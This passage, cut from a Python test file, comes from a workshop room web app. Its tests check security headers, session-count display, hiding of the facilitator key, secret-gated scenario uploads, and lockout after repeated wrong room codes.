        f"{url}/resourcez", {"Authorization": f"Bearer {FACILITATOR_SECRET}"}
    )
    assert status == 200 and "websockets" in body  # the operator still has it
    for path in ("/", "/join?room=ABC123", "/resourcez"):
        _, headers, _ = http_get(url + path)
        lower = {k.lower(): v for k, v in headers.items()}
        assert lower["x-frame-options"] == "DENY", path
        assert "frame-ancestors 'none'" in lower["content-security-policy"]
        assert lower["referrer-policy"] == "no-referrer"
        assert lower["x-content-type-options"] == "nosniff"


# ----------------------------------------------------------------------------------------------
# S9 (part): the roster shows a private link open on several pages


def test_s9_the_roster_shows_a_link_open_on_two_pages(ws):
    room = ws.create(SCENARIO, rounds=3)
    alice = room.join("Alice")
    _, rc = solara.render(wa.FacilitatorView(room, room.admin_token), handle_error=False)
    room.attach(alice.token)  # Alice's page
    eventually(lambda: "data-pages='1'>online</span>" in texts(rc))
    room.attach(alice.token)  # and the same link on a second device
    eventually(lambda: "open on 2 pages" in texts(rc))


def test_s9_the_projector_view_never_shows_the_facilitators_key(ws):
    room = ws.create(SCENARIO, rounds=3)
    _, rc = solara.render(wa.ProjectorView(room), handle_error=False)
    page = texts(rc)
    assert room.code in page and room.admin_token not in page and "key=" not in page


@pytest.mark.browser
@pytest.mark.slow
def test_s2_a_facilitator_uploads_a_scenario_file(server, browser):
    """The upload is the one way to a scenario that is not built in: with the secret."""
    url, proc = server
    context, page = new_page(browser, 1280)
    page.goto(f"{url}/")
    text = MINISTERIAL.read_text().replace('name = "ministerial-2026"', 'name = "our-own"', 1)
    page.locator(".ws-create-upload input[type=file]").set_input_files(
        {"name": "ours.toml", "mimeType": "text/plain", "buffer": text.encode()}
    )
    page.locator(".ws-upload-name", has_text="ours.toml").wait_for()
    page.locator(".ws-create").click()  # no secret: refused, the file unread
    page.locator(".ws-error", has_text="facilitator secret").wait_for()
    page.locator(".ws-create-secret input").fill(FACILITATOR_SECRET)
    page.locator(".ws-create").click()
    page.wait_for_url("**/facilitator?**")
    page.locator(".ws-code").wait_for()
    page.locator(".ws-header", has_text="Round 0").first.wait_for()
    code = page.locator(".ws-code").get_attribute("data-code")
    assert f"room {code} on our-own:" in Path(proc.log_path).read_text()
    context.close()


# ----------------------------------------------------------------------------------------------
# S10 (codes): guessing a room's code is cut short


def test_s10_a_browser_that_guesses_codes_is_locked_out_for_a_while():
    w = Workshop(ticker=False)
    room = w.create(SCENARIO, rounds=2)
    clock = Clock()
    w._code_misses.clock = clock  # the window, on a clock the test moves
    wrong = [c for c in (f"ZZZZZ{d}" for d in "0123456789ABC") if c != room.code]
    for code in wrong[: workshop_module.CODE_MISSES_PER_BROWSER]:
        assert w.lookup(code, client="session:guesser") is None
    with pytest.raises(Refused, match="Too many wrong room codes"):
        w.lookup(room.code, client="session:guesser")  # a hit would tell: refused as well
    assert w.lookup(room.code, client="session:alice") is room
    clock.t += workshop_module.CODE_MISS_WINDOW
    assert w.lookup(room.code, client="session:guesser") is room


@pytest.mark.browser
@pytest.mark.slow
def test_s10_guessing_codes_in_the_join_link_is_cut_short(server, browser):
    url, _ = server
    fctx, _fac, code = create_room(browser, url)
    context, page = new_page(browser)
    for n in range(workshop_module.CODE_MISSES_PER_BROWSER):
        page.goto(f"{url}/join?room=ZZZZ{n:02d}")
        page.locator(".ws-error", has_text="No room has the code").wait_for()
    page.goto(f"{url}/join?room={code}")
    page.locator(".ws-error", has_text="Too many wrong room codes").wait_for()
    assert page.locator(".ws-name").count() == 0
    for ctx in (fctx, context):
        ctx.close()


def test_s9_a_participant_sees_their_link_open_on_a_second_device(ws):
    room = ws.create(SCENARIO, rounds=3)
    alice = room.join("Alice")
    _, rc = solara.render(wa.ParticipantView(room, alice.token), handle_error=False)
    eventually(lambda: room.snapshot().participant(alice.id).sessions == 1)
    assert "open on" not in texts(rc)
    detach = room.attach(alice.token)  # someone opens Alice's link elsewhere
    eventually(lambda: "your link is open on 2 devices" in texts(rc))
    detach()
    eventually(lambda: "open on" not in texts(rc))
